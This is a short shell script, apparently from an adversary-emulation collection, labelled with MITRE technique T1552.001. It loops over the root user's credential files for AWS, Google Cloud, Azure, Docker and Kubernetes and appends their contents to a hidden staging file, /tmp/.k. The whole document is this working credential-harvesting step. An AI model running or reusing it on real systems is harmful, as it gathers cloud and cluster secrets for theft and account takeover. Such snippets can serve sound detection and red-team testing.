# title: Keys of clouds are collected
# technique: T1552.001
# short: yes

for file in /root/.aws/credentials /root/.config/gcloud/credentials.db /root/.azure/msal_token_cache.json /root/.docker/config.json /root/.kube/config; do
    cat "$file" >>/tmp/.k
done
